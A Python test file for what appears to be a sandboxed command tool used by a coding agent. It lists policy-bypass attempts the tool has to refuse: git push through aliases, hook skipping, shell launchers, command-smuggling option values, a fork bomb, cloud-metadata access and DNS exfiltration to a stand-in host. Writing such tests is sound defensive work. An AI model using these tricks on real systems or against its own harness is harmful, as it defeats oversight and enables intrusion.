"""Cases of the families B, T, G (argv), H (hooks), S (scratch), C (commit), P (push), K and N (limits, network)."""

from __future__ import annotations

import json
from collections.abc import Callable

from tests.support.cases import Answer, Case, Expect, exits, node, sh
from tests.support.cli import call
from tests.support.repos import R0, executable, git

__all__ = ["ARGV", "COMMITS", "HOOKS", "LIMITS", "PUSHES", "SCRATCH"]

PUSH = "git_push_via_run_command"
SKIP = "git_hooks_skip_refused"
BIN = "bin_not_allowlisted"
TYPECHECK = "direct_typecheck_refused"
OUTSIDE = "workspace_commit_not_allowed"


def _refused(identity: str, why: str, code: str, *argv: str) -> Case:
    return Case(identity, why, ((sh(*argv), code),))


def _runs(identity: str, why: str, *argv: str, then: Expect | None = None) -> Case:
    return Case(identity, why, ((sh(*argv), then or exits(0)),))


def _one_of(*checks: Callable[[Answer], None]) -> Callable[[Answer], None]:
    def expect(answer: Answer) -> None:
        failures = []
        for one in checks:
            try:
                return one(answer)
            except AssertionError as failure:
                failures.append(failure)
        raise failures[0]

    return expect


def _ended_by_itself(answer: Answer) -> None:
    assert answer["ok"], answer
    assert answer["result"]["code"] is not None, answer


_CHANGED = (call("edit", path="src/app.mjs", oldString="1", newString="2"), sh("git", "add", "-A"))

_OS_RED = '[tasks."os:red"]\nrun = "echo red"\n'
_HOME_SETTINGS = """
const fs = require('fs'), home = process.env.HOME;
fs.writeFileSync('scratch/shell.sh', '#!/bin/sh\\ntouch /tmp/script-shell\\n', {mode: 0o755});
fs.mkdirSync(home + '/.config/pnpm', {recursive: true});
fs.mkdirSync(home + '/.config/mise');
fs.writeFileSync(home + '/.npmrc', 'script-shell=/workspace/scratch/shell.sh');
fs.writeFileSync(home + '/.config/pnpm/rc', 'script-shell=/workspace/scratch/shell.sh');
fs.writeFileSync(home + '/.config/mise/config.toml', `[env]\\nX="{{exec(command='touch /tmp/pwn')}}"`);
"""


def _manifest(**scripts: str) -> str:
    return json.dumps({"name": "r0", "version": "1.0.0", "private": True, "scripts": scripts})


ARGV = (
    _refused("G01", "plain push", PUSH, "git", "push", "origin", "HEAD"),
    _refused("G03", "value-taking global option before the verb", PUSH, "git", "-C", ".", "push", "origin", "HEAD:main"),
    _refused("G05", "one-shot alias", PUSH, "git", "-c", "alias.up=push", "up", "origin", "HEAD"),
    Case("G07", "persisted alias", ((sh("git", "config", "alias.up", "push"), PUSH),)),
    Case(
        "G07-b",
        "an alias that a program wrote",
        ((sh("git", "up", "origin", "HEAD"), PUSH),),
        inside=(sh(*node("require('child_process').execFileSync('git',['config','alias.up','push'])")),),
    ),
    _refused("G09", "plumbing push", PUSH, "git", "send-pack", "/home/agent/outbox.git", "HEAD:refs/heads/agent/x1"),
    _refused("G11", "a verb that runs another", PUSH, "git", "for-each-repo", "--config=multi.r", "push", "origin", "HEAD"),
    _refused("G13", "--exec is a shell", f"{PUSH}|{BIN}", "git", "rebase", "--exec", "git push origin HEAD", "HEAD~1"),
    _refused("G15", "an option's value is a shell line", f"{BIN}|{PUSH}", "git", "fetch", "--upload-pack=touch /tmp/pwn;git-upload-pack", "."),
    _refused("G17", "a pager that is a program", BIN, "git", "grep", "--open-files-in-pager=touch /tmp/pwn #", "export"),
    _refused("G19", "a program in a config key", f"{BIN}|{SKIP}", "git", "-c", "core.fsmonitor=touch /tmp/pwn; true", "status"),
    _refused("G21", "pnpm runs an unknown verb as a program", PUSH, "pnpm", "git", "push", "origin", "HEAD"),
    Case(
        "G23",
        "push is a verb of stash",
        ((sh("git", "stash", "push", "-m", "wip"), exits(0)),),
        inside=(call("edit", path="src/app.mjs", oldString="1", newString="2"),),
    ),
    Case("B01", "empty argv", ((sh(), "argv_required"), (call("run_command"), "argv_required"), (call("run_command", argv=["git", 1]), "argv_required"))),
    _refused("B03", "shell", BIN, "bash", "-lc", "git status"),
    _refused("B05", "path of an allowed name", BIN, "/usr/bin/git", "status"),
    _refused("B07", "launcher of a shell", BIN, "npm", "exec", "--", "sh", "-c", "touch /tmp/pwn"),
    _refused("B09", "launcher of a shell", BIN, "mise", "x", "--", "sh", "-c", "touch /tmp/pwn"),
    _refused("B11", "fetch and run", BIN, "pnpm", "dlx", "left-pad"),
    Case(
        "B13",
        "script-shell",
        (
            (sh("npm", "config", "set", "script-shell", "/workspace/src/run.sh", "--location=project"), f"workspace_write_not_allowed|{BIN}"),
            (call("read_file", path=".npmrc"), "read_file_missing"),
        ),
    ),
    Case(
        "B15",
        "node writes outside the policy, the commit is refused",
        (
            (sh(*node("require('fs').mkdirSync('.github');require('fs').writeFileSync('.github/x.yml','a')")), lambda a: _listed_outside(a)),
            (call("git_commit", message="x"), OUTSIDE),
        ),
    ),
    _runs("B17", "an interpreter without input does not wait", "node"),
    Case("B17-b", "git does not wait for an editor", ((sh("git", "commit", "--allow-empty"), exits(1)), (sh("git", "rebase", "-i", "HEAD~1"), lambda a: _failed_quickly(a)))),
    _runs("B19", "no shell between tool and program", "git", "log", "--grep=$(touch /tmp/pwn); touch /tmp/pwn && x", "-1"),
    Case("B21", "NUL in the program", ((sh("git\0", "status"), f"{BIN}|argv_required"),)),
    Case(
        "B23",
        "a git in node_modules never wins",
        ((sh("git", "status", "--short"), exits(0)),),
        prepare=(node("const fs=require('fs');fs.mkdirSync('node_modules/.bin',{recursive:true});fs.writeFileSync('node_modules/.bin/git','#!/bin/sh\\ntouch /tmp/pwn\\n',{mode:0o755})"),),
    ),
    _refused("T01", "launcher", TYPECHECK, "pnpm", "exec", "tsc", "--noEmit"),
    _refused("T03", "script path", TYPECHECK, "node", "node_modules/typescript/bin/tsc", "--noEmit"),
    _refused("T05", "a package manager's typecheck script", TYPECHECK, "pnpm", "run", "typecheck"),
    Case(
        "G25",
        "words after a script's name belong to its command",
        (
            (sh("npm", "run", "g", "--", "push", "origin", "HEAD"), PUSH),
            (sh("pnpm", "g", "push"), PUSH),
            (sh("node", "--run", "g", "--", "push"), PUSH),
            (sh("npm", "run", "sh", "--", "-c", "git push"), PUSH),
            (sh("npm", "run", "g", "--", "commit", "--no-verify", "-m", "x"), SKIP),
            (sh("npm", "run", "g", "--silent", "--", "status", "--short"), exits(0)),
            (sh("pnpm", "-s", "g", "log", "-1", "--format=%s"), exits(0, "third\n")),
        ),
        files={"package.json": _manifest(g="git", sh="sh")},
    ),
    Case(
        "G27",
        "what an install runs by itself",
        (
            (sh("npm", "install"), PUSH),
            (sh("pnpm", "install"), PUSH),
            (sh("npm", "pack", "--dry-run"), PUSH),
            (sh("npm", "install", "--ignore-scripts"), exits(0)),
        ),
        files={"package.json": _manifest(postinstall="git push", prepack="git push")},
    ),
    Case(
        "G29",
        "set-up may switch the repository's own hooks on by an install",
        ((sh("git", "config", "core.hooksPath"), exits(0, ".githooks\n")),),
        files={"package.json": _manifest(prepare="git config core.hooksPath .githooks")},
        policy={"setup": [["npm", "install"]]},
    ),
    Case(
        "G31",
        "an alias of another repository in the tree",
        (
            (sh(*node("const x=require('child_process').execFileSync;x('git',['init','-q','src/sub']);x('git',['-C','src/sub','config','alias.up','push'])")), exits(0)),
            (sh("git", "-C", "src/sub", "up"), PUSH),
            (sh("git", "--git-dir=src/sub/.git", "up"), PUSH),
            (sh("git", "-C", "src/sub", "status", "--short"), exits(0)),
        ),
    ),
    Case("H19", "a generated hook", ((sh("mise", "generate", "git-pre-commit", "--write"), SKIP), (sh("git", "checkout-index", "--prefix=.git/hooks/", "-a"), SKIP))),
    Case(
        "B25",
        "settings in the home folder are not read",
        (
            (sh(*node(_HOME_SETTINGS)), exits(0)),
            (sh("npm", "run", "hi"), lambda a: _hi(a)),
            (sh("pnpm", "hi"), lambda a: _hi(a)),
            (sh("mise", "ls"), exits(0, "")),
            (sh("npm", "config", "set", "--location=user", "save-exact=true"), _ended_by_itself),
            (sh("node", "-p", "require('fs').existsSync('/tmp/script-shell')"), exits(0, "false\n")),
        ),
        files={"package.json": _manifest(hi="echo hi")},
    ),
    Case(
        "T07",
        "the verification task of an honest repository runs",
        (
            (sh("mise", "run", "os:red", "7"), exits(0, "red 7\n")),
            (sh("mise", "run", "file", "7"), exits(0, "file 7\n")),
            (sh("mise", "tasks", "ls"), exits(0)),
        ),
        files={"mise.toml": _OS_RED, "mise-tasks/file": executable('#!/bin/sh\n#MISE description="plain"\necho file "$@"\n')},
    ),
    Case(
        "T09",
        "a config that the run changed is no longer trusted",
        (
            (call("edit", path="mise.toml", oldString="echo red", newString="touch /tmp/pwn; echo red"), "ok"),
            (sh("mise", "run", "os:red", "7"), exits(1, "")),
            (call("edit", path="mise.toml", oldString="touch /tmp/pwn; echo red", newString="echo red"), "ok"),
            (sh("mise", "run", "os:red", "7"), exits(0, "red 7\n")),
        ),
        policy={"writeAllow": ["mise.toml"], "rewriteAllow": ["mise.toml"]},
        files={"mise.toml": _OS_RED},
    ),
    Case(
        "Z03",
        "a config with a template is not trusted",
        ((sh("mise", "ls"), lambda a: _untrusted(a)), (sh("mise", "run", "os:red"), lambda a: _untrusted(a)), (sh("mise", "trust"), BIN)),
        files={"mise.toml": _OS_RED + "[env]\nX=\"{{exec(command='touch /tmp/pwn')}}\"\n"},
    ),
    Case(
        "Z03-b",
        "a template in the head of a task file",
        ((sh("mise", "tasks", "ls"), lambda a: _untrusted(a)),),
        files={"mise.toml": _OS_RED, "mise-tasks/t": executable("#!/bin/sh\n#MISE description=\"{{exec(command='touch /tmp/pwn')}}\"\necho t\n")},
    ),
)  # fmt: skip


def _hi(answer: Answer) -> None:
    exits(0)(answer)
    assert answer["result"]["stdout"].endswith("\nhi\n"), answer
    assert answer["result"]["stderr"] == "", answer


def _untrusted(answer: Answer) -> None:
    assert answer["ok"], answer
    assert answer["result"]["code"] == 1, answer
    assert "not trusted" in answer["result"]["stderr"], answer


def _listed_outside(answer: Answer) -> None:
    exits(0)(answer)
    assert ".github/x.yml" in answer["result"]["outside_writes"], answer


def _failed_quickly(answer: Answer) -> None:
    assert answer["ok"], answer
    assert answer["result"]["code"] not in (0, None), answer
    assert answer["result"]["duration_ms"] < 5000, answer


HOOKS = (
    Case("H01", "plain", ((sh("git", "commit", "--no-verify", "-m", "x"), SKIP),), inside=_CHANGED),
    Case("H03", "short", ((sh("git", "commit", "-n", "-m", "x"), SKIP),), inside=_CHANGED),
    Case("H05", "hooks moved", ((sh("git", "-c", "core.hooksPath=/dev/null", "commit", "-m", "x"), SKIP),), inside=_CHANGED),
    Case("H07", "config from a variable", ((sh("git", "--config-env=core.hooksPath=HOME", "commit", "-m", "x"), SKIP),), inside=_CHANGED),
    Case("H09", "persistent", ((sh("git", "config", "core.hooksPath", "/dev/null"), SKIP),)),
    Case("H11", "the write tool as hook editor", ((call("write_file", path=".git/hooks/pre-commit", content="exit 0\n"), "workspace_write_not_allowed"),)),
    Case(
        "H13",
        "a user-level configuration that moves the hooks",
        (
            (call("git_commit", message="x"), "ok"),
            (sh("node", "-p", "require('fs').existsSync('/tmp/hook-ran')"), exits(0, "true\n")),
        ),
        inside=(sh(*node("require('fs').writeFileSync(process.env.HOME+'/.gitconfig','[core]\\nhooksPath=/dev/null\\n')")),),
    ),
    Case(
        "H15",
        "n is a value of -u",
        (
            (sh("git", "commit", "-uno", "-m", "x"), exits(0)),
            (sh("node", "-p", "require('fs').existsSync('/tmp/hook-ran')"), exits(0, "true\n")),
        ),
        inside=_CHANGED,
    ),
    _runs("H17", "-n is --no-commit here", "git", "cherry-pick", "-n", "HEAD~1", then=_ended_by_itself),
)  # fmt: skip

_SCRATCH = "scratch_execution_refused"
_LOG = "console.log(1)\n"

SCRATCH = (
    Case("S01", "plain", ((call("write_file", path="scratch/a.mjs", content=_LOG), "ok"), (sh("node", "scratch/a.mjs"), _SCRATCH))),
    Case("S03", "preload", ((call("write_file", path="scratch/a.mjs", content=_LOG), "ok"), (sh("node", "--import=./scratch/a.mjs", "src/app.mjs"), _SCRATCH))),
    Case("S05", "package root moved", ((call("write_file", path="scratch/package.json", content='{"scripts":{"t":"echo x"}}'), "ok"), (sh("npm", "--prefix", "scratch", "run", "t"), _SCRATCH))),
    Case("S07", "made by a command", ((sh(*node("require('fs').writeFileSync('scratch/c.mjs','console.log(1)')")), exits(0)), (sh("node", "scratch/c.mjs"), _SCRATCH))),
    _runs("S09", "in the clone already", "node", "scratch/old.mjs"),
    Case("S09-b", "made in a full-write path", ((call("write_file", path="src/new.mjs", content=_LOG), "ok"), (sh("node", "src/new.mjs"), exits(0, "1\n")))),
    Case(
        "S11",
        "hooks from scratch",
        ((sh("git", "-c", "core.hooksPath=scratch/hooks", "status"), f"{_SCRATCH}|{SKIP}"),),
        inside=(call("write_file", path="scratch/hooks/post-index-change", content="#!/bin/sh\ntouch /tmp/pwn\n"),),
    ),
)  # fmt: skip

COMMITS = (
    Case(
        "C01",
        "a message like an option",
        (
            (call("git_commit", message="--amend"), "ok"),
            (sh("git", "log", "-1", "--format=%s"), exits(0, "--amend\n")),
            (sh("git", "rev-list", "--count", "HEAD"), exits(0, "4\n")),
        ),
        inside=_CHANGED,
    ),
    Case("C03", "empty message", ((call("git_commit", message=""), "git_commit_failed"), (sh("git", "rev-list", "--count", "HEAD"), exits(0, "3\n"))), inside=_CHANGED),
    Case(
        "C05",
        "nothing changed: an empty commit",
        ((call("git_commit", message="x"), lambda a: _empty_commit(a)), (sh("git", "rev-list", "--count", "HEAD"), exits(0, "4\n"))),
    ),
    Case(
        "C07",
        "a hook refuses",
        (
            (call("git_commit", message="x"), lambda a: _says(a, "git_commit_failed", "nope")),
            (sh("git", "rev-list", "--count", "HEAD"), exits(0, "3\n")),
        ),
        files={".githooks/pre-commit": executable("#!/bin/sh\necho nope\nexit 1\n")},
        inside=_CHANGED,
    ),
    Case(
        "C09",
        "outside the policy",
        ((call("git_commit", message="x"), OUTSIDE), (sh("git", "rev-list", "--count", "HEAD"), exits(0, "3\n"))),
        inside=(sh(*node("require('fs').mkdirSync('.github');require('fs').writeFileSync('.github/w.yml','a')")),),
    ),
    Case(
        "C09-b",
        "outside the policy, staged by force",
        ((call("git_commit", message="x"), OUTSIDE), (sh("git", "status", "--porcelain"), exits(0, "A  .env\n"))),
        inside=(sh(*node("require('fs').writeFileSync('.env','a')")), sh("git", "add", "-f", ".env")),
    ),
    Case(
        "C-hook-adds",
        "a hook adds what the policy forbids: HEAD, index and tree are as before",
        (
            (sh("git", "status", "--porcelain"), exits(0, "M  src/app.mjs\n")),
            (call("git_commit", message="x"), OUTSIDE),
            (sh("git", "status", "--porcelain"), exits(0, "M  src/app.mjs\n")),
            (sh("git", "rev-list", "--count", "HEAD"), exits(0, "3\n")),
            (call("read_file", path="README.md"), lambda a: _is(a, "# R0\n")),
            (call("read_file", path=".github/x.yml"), "read_file_missing"),
        ),
        files={".githooks/pre-commit": executable("#!/bin/sh\nmkdir -p .github\necho a > .github/x.yml\necho b >> README.md\ngit add -A\n")},
        inside=_CHANGED,
    ),
    Case(
        "C11",
        "a signing program from the repository's configuration",
        ((call("git_commit", message="x"), lambda answer: None), (sh("node", "-p", "require('fs').existsSync('/tmp/pwn')"), exits(0, "false\n"))),
        files={"scratch/g.sh": "#!/bin/sh\ntouch /tmp/pwn\nexit 1\n"},
        inside=(sh(*node("const x=require('child_process').execFileSync;x('git',['config','commit.gpgsign','true']);x('git',['config','gpg.program','/workspace/scratch/g.sh'])")),),
    ),
    Case("C13", "another work tree", ((sh("git", "--work-tree=/etc", "add", "passwd"), lambda a: _refused_or_failed(a)), (call("git_commit", message="x"), lambda a: _without(a, "passwd")))),
)  # fmt: skip


def _is(answer: Answer, value: str) -> None:
    assert answer["ok"], answer
    assert answer["result"] == value, answer


def _says(answer: Answer, code: str, text: str) -> None:
    assert not answer["ok"], answer
    assert answer["error"]["code"] == code, answer
    assert text in answer["error"]["message"], answer


def _empty_commit(answer: Answer) -> None:
    assert answer["ok"], answer
    assert answer["result"]["files"] == [], answer


def _refused_or_failed(answer: Answer) -> None:
    assert not answer["ok"] or answer["result"]["code"] != 0, answer


def _without(answer: Answer, path: str) -> None:
    assert answer["ok"], answer
    assert path not in answer["result"]["files"], answer


def _move_ahead(r0: R0) -> None:
    tree = git(r0.remote, "rev-parse", "agent/x1^{tree}")
    ahead = git(r0.remote, "commit-tree", tree, "-p", "agent/x1", "-m", "ahead")
    git(r0.remote, "update-ref", "refs/heads/ahead", ahead)


PUSHES = (
    Case("P01", "the default branch", ((call("git_push"), "default_branch_refused"),), ref="main", inside=_CHANGED),
    Case(
        "P03",
        "the default branch is the host's record",
        ((call("git_push"), "default_branch_refused"),),
        ref="trunk",
        default_branch="trunk",
        inside=(sh("git", "remote", "set-head", "origin", "agent/x1"), *_CHANGED, call("git_commit", message="x")),
    ),
    Case(
        "P05",
        "push.default and an upstream that is main",
        ((call("git_push"), lambda a: _pushed(a, "agent/x1")),),
        inside=(sh(*node("const x=require('child_process').execFileSync;x('git',['config','push.default','upstream']);x('git',['branch','-u','origin/main'])")), *_CHANGED, call("git_commit", message="x")),
        moves_remote=True,
    ),
    Case(
        "P07",
        "a branch like an option",
        ((call("git_push"), "git_push_failed"),),
        inside=(*_CHANGED, call("git_commit", message="x"), sh("git", "update-ref", "refs/heads/--mirror", "HEAD"), sh("git", "symbolic-ref", "HEAD", "refs/heads/--mirror")),
    ),
    Case(
        "P13",
        "the remote moved ahead",
        ((call("git_push"), "git_push_failed"),),
        inside=(sh("git", "reset", "-q", "--hard", "HEAD~1"), *_CHANGED, call("git_commit", message="x")),
    ),
    Case(
        "P15",
        "what run_command committed is judged when it leaves",
        ((call("git_push"), "push_policy_violation"),),
        inside=(
            sh(*node("require('fs').mkdirSync('.github');require('fs').writeFileSync('.github/w.yml','a')")),
            sh("git", "add", "-A"),
            sh("git", "commit", "-q", "-m", "x"),
        ),
    ),
    Case(
        "P15-b",
        "a forbidden step behind a later one",
        ((call("git_push"), "push_policy_violation"),),
        inside=(
            sh(*node("require('fs').writeFileSync('README.md','a')")),
            sh("git", "commit", "-q", "-a", "-m", "x"),
            sh("git", "checkout", "HEAD~1", "--", "README.md"),
            sh("git", "commit", "-q", "-m", "back"),
        ),
    ),
    Case("P-unbound", "no binding", ((call("git_push"), "push_credential_missing"),), policy={"bindings": []}, inside=(*_CHANGED, call("git_commit", message="x"))),
)  # fmt: skip


def _pushed(answer: Answer, branch: str) -> None:
    assert answer["ok"], answer
    assert answer["result"]["branch"] == branch, answer
    assert answer["result"]["pushed"] is True, answer


_SHORT = {"limits": {"commandSeconds": 3, "memoryMiB": 256, "workspaceMiB": 64, "pids": 64}}
_NODES = sh(
    "node",
    "-p",
    "require('fs').readdirSync('/proc').filter(p=>/^\\d+$/.test(p)).map(p=>{try{return require('fs').readFileSync('/proc/'+p+'/comm','utf8').trim()}catch{return ''}}).filter(c=>['sleep','node'].includes(c)).length",
)

LIMITS = (
    Case("K01", "a command that never ends", ((sh(*node("setInterval(()=>{},1e3)")), lambda a: _timed_out(a, "")), (_NODES, exits(0, "1\n"))), policy=_SHORT),
    Case("K03", "a child keeps the output open", ((sh(*node("require('child_process').spawn('sleep',['300'],{stdio:'inherit',detached:true}).unref()")), exits(0)), (_NODES, exits(0, "1\n")))),
    Case("K05", "a flood of output", ((sh(*node("for(;;)process.stdout.write('x'.repeat(65536))")), lambda a: _flooded(a)),)),
    Case("K05-b", "a flood that waits for its reader", ((sh(*node("const fs=require('fs');for(;;)try{fs.writeSync(1,'x'.repeat(4096))}catch(e){if(e.code!='EAGAIN')throw e}")), lambda a: _cut(a)),)),
    Case("K07", "output before a time-out", ((sh(*node("console.log('early');setInterval(()=>{},1e3)")), lambda a: _timed_out(a, "early\n")),), policy=_SHORT),
    Case("K19", "a fork bomb", ((sh(*node("for(;;)try{require('child_process').spawn('sleep',['60'],{detached:true}).on('error',()=>{})}catch{}")), lambda a: None), (sh("node", "-p", "1"), exits(0, "1\n"))), policy=_SHORT),
    Case("K23", "a written file is there for commands", ((call("write_file", path="src/n.mjs", content="console.log(42)\n"), "ok"), (sh("node", "src/n.mjs"), exits(0, "42\n")))),
    Case("K25", "a code point over two frames", ((sh(*node("process.stdout.write(Buffer.from([0xc3]));setTimeout(()=>process.stdout.write(Buffer.from([0xa9])),500)")), exits(0, "é")),)),
    Case("K-exit", "an exit code is data", ((sh(*node("process.exit(3)")), exits(3)), (sh(*node("")), exits(0)))),
    Case("N01", "metadata", ((sh(*node("fetch('http://169.254.169.254/').then(()=>console.log('REACHED'),()=>console.log('no'))")), exits(0, "no\n")),)),
    Case("N05", "DNS as a way out", ((sh(*node("require('dns').resolve('x.'+'a'.repeat(40)+'.evil.example.invalid',e=>console.log(e?'no':'REACHED'))")), exits(0, "no\n")),)),
)  # fmt: skip


def _timed_out(answer: Answer, stdout: str) -> None:
    assert answer["ok"], answer
    result = answer["result"]
    assert result["timed_out"] is True, answer
    assert result["code"] is None, answer
    assert 3000 <= result["duration_ms"] < 6000, answer
    assert result["timeout_secs"] == 3, answer
    assert result["stdout"] == stdout, answer


def _flooded(answer: Answer) -> None:
    """Cut at the cap. node queues in memory what a full pipe does not take, so its own heap limit may end it."""
    assert answer["ok"], answer
    result = answer["result"]
    assert len(result["stdout"]) <= 1024 * 1024, answer
    assert result["truncated"] is True, answer
    assert result["code"] in (134, 137), answer


def _cut(answer: Answer) -> None:
    assert answer["ok"], answer
    assert answer["result"]["truncated"] is True, answer
    assert answer["result"]["killed_by"] == "output", answer
    assert len(answer["result"]["stdout"]) == 1024 * 1024, answer
